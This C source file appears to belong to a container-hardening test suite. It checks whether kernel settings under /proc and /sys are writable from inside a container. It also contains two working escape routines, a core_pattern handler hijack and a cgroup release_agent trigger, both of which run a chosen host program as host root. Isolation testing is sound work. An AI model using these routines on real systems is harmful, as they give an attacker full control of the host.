/*
 * settings of the kernel, each tried in every way in which /proc and /sys may be
 * seen. A setting that opens is written back as it is; only where a handler is given, and is put in, does a
 * crash run it.
 */
#define _GNU_SOURCE
#include <sys/resource.h>
#include <time.h>

#include "views.h"

static const struct target {
  const char* id;
  int in_sys;
  const char* path;
  /* Not written: the text would be taken as an order. */
  int only_open;
} TARGETS[] = {
    {"A-040/core_pattern", 0, "sys/kernel/core_pattern", 0},
    {"A-041/modprobe", 0, "sys/kernel/modprobe", 0},
    {"A-042/binfmt_misc-register", 0, "sys/fs/binfmt_misc/register", 1},
    {"A-043/sysrq-trigger", 0, "sysrq-trigger", 1},
    {"A-044/panic_on_oom", 0, "sys/vm/panic_on_oom", 0},
    {"A-044/panic", 0, "sys/kernel/panic", 0},
    {"A-045/pid_max", 0, "sys/kernel/pid_max", 0},
    {"A-045/threads-max", 0, "sys/kernel/threads-max", 0},
    {"A-045/ns_last_pid", 0, "sys/kernel/ns_last_pid", 1},
    {"A-046/randomize_va_space", 0, "sys/kernel/randomize_va_space", 0},
    {"A-046/mmap_min_addr", 0, "sys/vm/mmap_min_addr", 0},
    {"A-047/maxkeys", 0, "sys/kernel/keys/maxkeys", 0},
    {"A-048/pty-max", 0, "sys/kernel/pty/max", 0},
    {"A-049/suid_dumpable", 0, "sys/fs/suid_dumpable", 0},
    {"A-049/protected_symlinks", 0, "sys/fs/protected_symlinks", 0},
    {"A-049/file-max", 0, "sys/fs/file-max", 0},
    {"A-050/legacy_tiocsti", 0, "sys/dev/tty/legacy_tiocsti", 0},
    {"A-050/printk", 0, "sys/kernel/printk", 0},
    {"A-050/dmesg_restrict", 0, "sys/kernel/dmesg_restrict", 0},
    {"A-050/sysrq", 0, "sys/kernel/sysrq", 0},
    {"A-050/drop_caches", 0, "sys/vm/drop_caches", 1},
    {"A-051/uevent_helper", 1, "kernel/uevent_helper", 0},
    {"A-052/irq-affinity", 0, "irq/default_smp_affinity", 0},
    {"A-053/mtrr", 0, "mtrr", 1},
    {"A-054/thp", 1, "kernel/mm/transparent_hugepage/defrag", 1},
    {"A-055/ksm", 1, "kernel/mm/ksm/run", 0},
    {"A-056/power-state", 1, "power/state", 1},
    {"A-056/device-uevent", 1, "devices/virtual/mem/null/uevent", 1},
    {"A-056/module-parameter", 1, "module/printk/parameters/time", 0},
    {"A-056/profiling", 1, "kernel/profiling", 1},
    {"A-056/latency_stats", 0, "latency_stats", 1},
    {"A-056/scsi", 0, "scsi/scsi", 1},
    {"A-056/acpi-wakeup", 0, "acpi/wakeup", 1},
};

static const struct target NETWORK[] = {
    {"A-068/ip_forward", 0, "sys/net/ipv4/ip_forward", 0},
    {"A-068/core-rmem_max", 0, "sys/net/core/rmem_max", 0},
    {"A-068/nf_conntrack_max", 0, "sys/net/netfilter/nf_conntrack_max", 0},
    {"A-068/bpf_jit_enable", 0, "sys/net/core/bpf_jit_enable", 0},
};

static void try_target(const struct view* view, const struct target* target) {
  int directory = target->in_sys ? view->sys : view->proc;
  if (directory < 0) return;
  if (!target->only_open) {
    TRY(write_back(directory, target->path), "%s", target->id);
    return;
  }
  int fd;
  TRY(fd = openat(directory, target->path, O_WRONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC), "%s", target->id);
  if (fd >= 0) close(fd);
}

static void settings(const struct view* view) {
  for (size_t index = 0; index < sizeof TARGETS / sizeof *TARGETS; index++) try_target(view, &TARGETS[index]);
}
static void network(const struct view* view) {
  for (size_t index = 0; index < sizeof NETWORK / sizeof *NETWORK; index++) try_target(view, &NETWORK[index]);
}

static const char* handler;

static void crash(void) {
  struct rlimit all = {RLIM_INFINITY, RLIM_INFINITY};
  setrlimit(RLIMIT_CORE, &all);
  abort();
}

/* The kernel runs the handler as root of the host, in the host's namespaces; the old one is put back at once.
 */
static void core_handler(const struct view* view) {
  char old[256], pattern[256];
  int in = openat(view->proc, "sys/kernel/core_pattern", O_RDONLY | O_CLOEXEC);
  ssize_t got = in < 0 ? -1 : read(in, old, sizeof old);
  int out = openat(view->proc, "sys/kernel/core_pattern", O_WRONLY | O_CLOEXEC);
  if (got < 0 || out < 0) {
    report(0, errno, "A-057/core-handler");
    return;
  }
  int length = snprintf(pattern, sizeof pattern, "|%s core-%s", handler, report_way);
  int written = pwrite(out, pattern, (size_t)length, 0) == length;
  report(written, errno, "A-057/core-handler");
  if (!written) return;
  pid_t pid = fork();
  if (pid == 0) crash();
  waitpid(pid, NULL, 0);
  if (pwrite(out, old, (size_t)got, 0) != got) report(1, errno, "A-057/not-restored");
}

/* A hierarchy of its own, so that nobody else's groups run the handler. */
static void release_handler(const struct view* view) {
  char point[128], group[160], file[200];
  (void)view;
  /* A name of its own: one that another victim has just made could be joined, which gives nothing. */
  char options[64];
  struct timespec now;
  clock_gettime(CLOCK_REALTIME, &now);
  snprintf(options, sizeof options, "none,name=attack%ld%09ld", (long)now.tv_sec, now.tv_nsec);
  TRY(made_point(point, sizeof point, "cgroup") || mount("attack", point, "cgroup", 0, options) ? -1 : 0,
      "A-058/named-hierarchy");
  snprintf(file, sizeof file, "%s/release_agent", point);
  int agent = open(file, O_WRONLY | O_CLOEXEC);
  if (agent < 0) {
    report(0, errno, "A-058/release-agent");
    umount2(point, MNT_DETACH);
    return;
  }
  char command[200];
  snprintf(command, sizeof command, "%s", handler);
  write_text(agent, command, "A-058/release-agent");
  close(agent);
  snprintf(group, sizeof group, "%s/group", point);
  mkdir(group, 0700);
  snprintf(file, sizeof file, "%s/notify_on_release", group);
  write_map(file, "1");
  pid_t pid = fork();
  if (pid == 0) {
    snprintf(file, sizeof file, "%s/cgroup.procs", group);
    write_map(file, "0");
    _exit(0);
  }
  waitpid(pid, NULL, 0);
  usleep(300 * 1000);
  rmdir(group);
  umount2(point, MNT_DETACH);
}

/* kernel-writes settings|network|core HANDLER|release HANDLER|release-once HANDLER: HANDLER is a path on the
 * host. */
int main(int argc, char** argv) {
  refuse_on_host();
  if (argc < 2) return 2;
  if (argc > 2) handler = argv[2];
  if (strcmp(argv[1], "settings") == 0) each_way("A-040", settings);
  if (strcmp(argv[1], "network") == 0) each_way("A-068", network);
  if (strcmp(argv[1], "core") == 0) each_way("A-057", core_handler);
  if (strcmp(argv[1], "release") == 0) each_way("A-058", release_handler);
  if (strcmp(argv[1], "release-once") == 0) release_handler(NULL);
  puts("END");
  return 0;
}
